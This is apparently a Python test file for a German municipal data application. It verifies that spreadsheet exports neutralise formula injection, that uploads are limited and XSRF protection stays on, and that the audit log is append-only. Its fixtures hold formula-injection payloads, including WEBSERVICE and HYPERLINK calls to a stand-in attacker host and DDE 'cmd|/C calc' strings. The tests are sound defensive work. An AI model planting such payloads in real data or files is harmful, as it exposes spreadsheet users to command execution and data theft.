"""Hardening: every spreadsheet export neutralises formula injection (=, +, -, @, tab, CR at the start of a
text cell), configuration limits uploads and keeps XSRF on, secrets are ignored and an example exists."""

from __future__ import annotations

import csv
import functools
import io
import re
import tomllib
import zipfile
from pathlib import Path

import pytest

from quartier import db
from quartier.access import ADMIN, Actor
from quartier.cli.base import main

ROOT = Path(__file__).resolve().parents[2]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
POISON = {
    "indikator": "=HYPERLINK(http://angreifer.example)",
    "definition": "+SUM(1;1)",
    "sozialraum": "@SUM(A1:A9)",
    "sozialraum2": "-2+3",
    "lieferung": "=cmd|/C calc!A0",
    "audit": "=1+1",
    "empfehlung": "@WEBSERVICE(http://angreifer.example)",
}


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
        return True
    except ValueError:
        return False


@functools.lru_cache(maxsize=2)
def _xlsx_cells(data: bytes) -> tuple[tuple[str, str, str, object], ...]:
    """(sheet, coordinate, "f" for a formula else "v", value) of every non-empty cell, read once per file (both
    checks use it): values with calamine (as the product reads uploads), formulas from the sheets' XML (``<f>``)."""
    from openpyxl.utils import get_column_letter
    from python_calamine import CalamineWorkbook

    out: list[tuple[str, str, str, object]] = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                for cell in _CELL.finditer(z.read(name).decode("utf-8")):
                    if "<f" in (cell.group(2) or ""):
                        out.append((name, cell.group(1), "f", cell.group(2)))
    wb = CalamineWorkbook.from_filelike(io.BytesIO(data))
    for title in wb.sheet_names:
        for r, row in enumerate(wb.get_sheet_by_name(title).to_python(skip_empty_area=False), start=1):
            out += [(title, f"{get_column_letter(c)}{r}", "v", v) for c, v in enumerate(row, start=1) if v not in ("", None)]
    return tuple(out)


_CELL = re.compile(r'<c r="([A-Z]+[0-9]+)"[^>]*?(?:/>|>(.*?)</c>)', re.S)


def unsafe_cells(data: bytes, name: str) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    bad = []
    if name.endswith(".csv"):
        text = data.decode("utf-8-sig")
        sep = ";" if text.splitlines()[0].count(";") >= text.splitlines()[0].count(",") else ","
        for row in csv.reader(io.StringIO(text), delimiter=sep):
            bad += [c for c in row if c.startswith(DANGEROUS) and not _is_number(c)]
    else:
        for title, coordinate, data_type, value in _xlsx_cells(data):
            if data_type == "f" or (isinstance(value, str) and value.startswith(DANGEROUS)):
                bad.append(f"{title}!{coordinate}: {value!r}")
    return bad


def _text(data: bytes, name: str) -> str:
    if name.endswith(".csv"):
        return data.decode("utf-8-sig")
    return "\n".join(str(value) for _, _, _, value in _xlsx_cells(data) if value is not None)


def poisoned_texts(data: bytes, name: str) -> int:
    """How many poisoned texts (neutralised) the file contains: the export must really carry them."""
    text = _text(data, name)
    return sum(text.count("'" + p) for p in POISON.values())


# which poisoned texts each command-line export carries (neutralised)
CARRIED = {"values": {"lieferung"}, "public": {"sozialraum", "sozialraum2"}, "catalogue": {"indikator", "definition"},
           "audit": {"audit"}, "empfehlungen": {"empfehlung"}}


@pytest.fixture
def poisoned(demo_copy):
    c = db.connect(demo_copy)
    with db.transaction(c) as cur:
        cur.execute("UPDATE indikator SET name = ?, definition = ? WHERE id = 'sgb2_u18'", [POISON["indikator"], POISON["definition"]])
        cur.execute("UPDATE sozialraum SET name = ? WHERE id = 'M04'", [POISON["sozialraum"]])
        cur.execute("UPDATE sozialraum SET name = ? WHERE id = 'N01'", [POISON["sozialraum2"]])
        cur.execute("UPDATE lieferung SET dateiname = ? WHERE id = (SELECT max(id) FROM lieferung)", [POISON["lieferung"]])
        cur.execute("UPDATE empfehlung SET titel = ? WHERE id = (SELECT min(id) FROM empfehlung)", [POISON["empfehlung"]])
        db.audit(cur, "angreifer", "test", POISON["audit"], POISON["audit"])
    c.close()
    return demo_copy


@pytest.fixture
def poisoned_latest_year(poisoned):
    """The poisoned demo with the values of its newest year only: every export still carries the same poisoned
    texts (the Lieferung's file name in the values, the areas' names in the public table), in a tenth of the
    rows (the exports and their checks cost seconds on all eleven years)."""
    c = db.connect(poisoned)
    with db.transaction(c) as cur:
        cur.execute("DELETE FROM messwert WHERE jahr < (SELECT max(jahr) FROM messwert)")
    c.close()
    return poisoned


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cli_exports_neutralise_formulas(poisoned_latest_year, tmp_path, suffix):
    dbf = str(poisoned_latest_year)
    files = {
        "values": ["export", "values"],
        "public": ["export", "values", "--public"],
        "catalogue": ["indicators", "export"],
        "audit": ["audit"],
        "empfehlungen": ["empfehlungen", "export"],
    }
    for key, argv in files.items():
        out = tmp_path / f"{key}{suffix}"
        assert main([*argv, "--db", dbf, "--out", str(out)]) == 0, key
        data = out.read_bytes()
        assert unsafe_cells(data, out.name) == [], key
        assert poisoned_texts(data, out.name) > 0, f"{key}: Testdaten fehlen im Export"
        assert {k for k, text in POISON.items() if "'" + text in _text(data, out.name)} >= CARRIED[key], key


def test_core_export_functions_neutralise_formulas(poisoned):
    from quartier.access import SYSTEM
    from quartier.actions import excel as catalogue_io
    from quartier.ingest import template
    from quartier.need import compute, export
    from quartier.need import method as index_method

    c = db.connect(poisoned)
    try:
        outputs = {"empfehlungen.xlsx": catalogue_io.export_xlsx(c), "vorlage.xlsx": template.write_template(c)}
        method = index_method.get_method(c, index_method.methods(c)["name"].iloc[0])
        year = c.cursor().execute("SELECT max(jahr) FROM messwert_aktuell").fetchone()[0]
        outputs["rangfolge.xlsx"] = export.export_xlsx(c, compute.compute(c, method, year, actor=SYSTEM), actor=SYSTEM)
        from quartier.admin import audit
        from quartier.tables import to_csv_bytes, to_xlsx_bytes

        log = audit.export_frame(audit.entries(c, Actor("a", ADMIN)))
        outputs["audit.csv"] = to_csv_bytes(log)
        outputs["audit.xlsx"] = to_xlsx_bytes({"Audit-Log": log})
    finally:
        c.close()
    for name, data in outputs.items():
        assert unsafe_cells(data, name) == [], name
    assert poisoned_texts(outputs["audit.csv"], "audit.csv") >= 2


def test_streamlit_config_limits_uploads_and_keeps_xsrf():
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert cfg["server"]["enableXsrfProtection"] is True
    # Streamlit's widget limit sits just above the app's own 50 MB check (quartier/uploads.py), so a file of 50-60 MB
    # gets the app's German message instead of Streamlit's English one; larger files never reach the server
    from quartier.uploads import MAX_UPLOAD_BYTES

    assert MAX_UPLOAD_BYTES <= 50 * 1024 * 1024 < cfg["server"]["maxUploadSize"] * 1024 * 1024 <= 60 * 1024 * 1024
    assert cfg["client"]["showErrorDetails"] in ("none", False)


def test_secrets_are_ignored_and_the_example_holds_no_secret():
    ignored = (ROOT / ".gitignore").read_text(encoding="utf-8").split()
    assert ".streamlit/secrets.toml" in ignored
    example = ROOT / ".streamlit" / "secrets.toml.example"
    cfg = tomllib.loads(example.read_text(encoding="utf-8"))
    assert cfg["auth"]["cookie_secret"].startswith("HIER-") and cfg["auth"]["client_secret"].startswith("HIER-")
    assert cfg["quartier_roles"]["claim"]
    assert not (ROOT / ".streamlit" / "secrets.toml").exists() or ".streamlit/secrets.toml" in ignored


def test_no_code_changes_or_deletes_audit_entries():
    """The audit log is append-only: no module of the app updates, deletes or drops its entries."""
    import re

    pattern = re.compile(r"(update|delete\s+from|truncate|drop\s+table)\s+(if\s+exists\s+)?\"?audit_log", re.IGNORECASE)
    offenders = []
    for path in [*ROOT.joinpath("quartier").rglob("*.py"), *ROOT.joinpath("views").glob("*.py"), ROOT / "app.py"]:
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if pattern.search(line):
                offenders.append(f"{path.relative_to(ROOT)}:{n}")
    assert offenders == []
    from quartier import db

    assert "INSERT INTO audit_log" in Path(db.__file__).read_text(encoding="utf-8")


def test_a_mistyped_db_path_is_not_created(tmp_path, capsys):
    """Attack review: `--db` with a typo silently created an empty database and read commands exited 0."""
    from quartier.cli import main

    missing = tmp_path / "tippfehler.duckdb"
    for argv in (["deliveries", "list"], ["export", "values", "--out", str(tmp_path / "w.csv")], ["index", "--list"]):
        assert main([*argv, "--db", str(missing)]) == 2
        assert "gibt es nicht" in capsys.readouterr().err
        assert not missing.exists()


def test_csv_exports_neutralise_formulas_after_spaces_and_line_breaks(tmp_path, demo_copy, capsys):
    """Attack review: `M01\\r=cmd|' /C calc'!A0` was written unquoted, so software that treats CR as a line end
    saw a row starting with `=cmd…` (Prüfbericht CSV, `empfehlungen export --out .csv`)."""
    import csv as csvmod
    import re

    import pandas as pd

    from quartier.tables import to_csv_bytes, write_table

    evil = ["M01\r=cmd|' /C calc'!A0", "  =1+1", "Text\n@SUM(A1)", "a;b\r\n+1", "harmlos"]
    frame = pd.DataFrame({"Nummer": evil, "Titel": ["x"] * len(evil)})
    out = write_table(frame, tmp_path / "f.csv")
    for raw in (out.read_bytes(), to_csv_bytes(frame)):
        text = raw.decode("utf-8-sig")
        # read as a CR-as-line-end program would: no physical line starts with a formula
        for line in re.split(r"[\r\n]+", text):
            assert not re.match(r"^[\"' ]*[=+@]", line) or line.lstrip('" ').startswith("'"), line
        rows = list(csvmod.reader(text.splitlines(keepends=True), delimiter=";"))
        assert [r[0] for r in rows[1:]][-1] == "harmlos" and len(rows) == len(evil) + 1  # every field quoted intact
    # the recommendations export through the CLI
    from quartier import db
    from quartier.access import EDITOR, Actor
    from quartier.actions import store
    from quartier.cli import main

    con = db.connect(demo_copy)
    rec = store.listing(con, actor=Actor("x", EDITOR)).iloc[0]["id"]
    store.update(con, Actor("x", EDITOR), rec, {"federfuehrung": "Amt\r=cmd|' /C calc'!A0"}, "Test")
    con.close()
    target = tmp_path / "e.csv"
    assert main(["empfehlungen", "export", "--out", str(target), "--db", str(demo_copy)]) == 0
    for line in re.split(r"[\r\n]+", target.read_bytes().decode("utf-8-sig")):
        assert not re.match(r"^[\" ]*=", line), line  # an apostrophe first is fine: text, not a formula
